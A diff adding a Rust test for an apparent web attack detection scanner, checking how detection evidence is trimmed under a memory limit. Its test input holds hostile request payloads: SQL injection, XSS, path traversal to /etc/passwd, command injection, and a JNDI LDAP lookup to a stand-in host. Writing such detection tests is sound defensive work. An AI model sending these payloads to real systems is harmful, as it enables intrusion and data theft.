@@ -309,6 +309,51 @@ fn what_is_forgotten_depends_on_the_requests_and_not_on_the_seed_of_a_table() {
 }
 
 #[test]
+fn when_memory_is_full_evidence_loses_texts_and_neither_its_places_nor_anybody() {
+    let builtin = RuleSet::builtin();
+    const PAYLOADS: &str = "id=1'%20UNION%20SELECT%201,user(),3--%20-&q=<script>alert(1)</script>\
+        &f=../../../../etc/passwd&c=;cat%20/etc/passwd&j=${jndi:ldap://x/a}";
+    let scan = |bytes: usize| {
+        let mut scan = Scan::new(&builtin);
+        scan.limit_memory(bytes);
+        for attack in calm_clients(500) {
+            observe(&mut scan, &Sent { query: Some(PAYLOADS), ..attack });
+        }
+        (scan.used_bytes(), scan.finish())
+    };
+    let (bytes, exact) = scan(1 << 30);
+    assert!(exact.coverage.forgotten.is_nothing(), "{:?}", exact.coverage.forgotten);
+    let (fewer_bytes, limited) = scan(1 << 19);
+    assert!(fewer_bytes < bytes / 2, "{fewer_bytes} of {bytes}");
+    assert_eq!(limited.coverage.forgotten.shortened, 500);
+    let places = |offender: &Offender| -> Vec<_> {
+        let of = |detection: &Detection| {
+            let evidence = detection.evidence.iter();
+            let places = evidence.map(|evidence| (evidence.offset, evidence.time)).collect();
+            (detection.rule.clone(), detection.points, detection.outcomes, places)
+        };
+        offender.detections.iter().map(of).collect::<Vec<(_, _, _, Vec<_>)>>()
+    };
+    let with_texts = |offender: &Offender| {
+        let has_text = |detection: &&Detection| {
+            detection.evidence.iter().any(|one| !one.text.as_untrusted().bytes().is_empty())
+        };
+        offender.detections.iter().filter(has_text).count()
+    };
+    assert_eq!(limited.offenders.len(), 500);
+    for (limited, exact) in limited.offenders.iter().zip(&exact.offenders) {
+        assert_eq!((limited.source, limited.score), (exact.source, exact.score));
+        assert_eq!(places(limited), places(exact));
+        assert_eq!(with_texts(exact), exact.detections.len());
+        assert!(exact.detections.len() >= 8, "{:?}", exact.detections);
+        // A request that came after the last time memory was full has its texts.
+        assert!(with_texts(limited) >= 3);
+    }
+    let shortened = limited.offenders.iter().filter(|offender| with_texts(offender) == 3).count();
+    assert!(shortened >= 400, "{shortened}");
+}
+
+#[test]
 fn no_window_lacks_more_requests_than_is_said() {
     let builtin = RuleSet::builtin();
     // A flood of which the beginning may be forgotten, in between many calm clients.
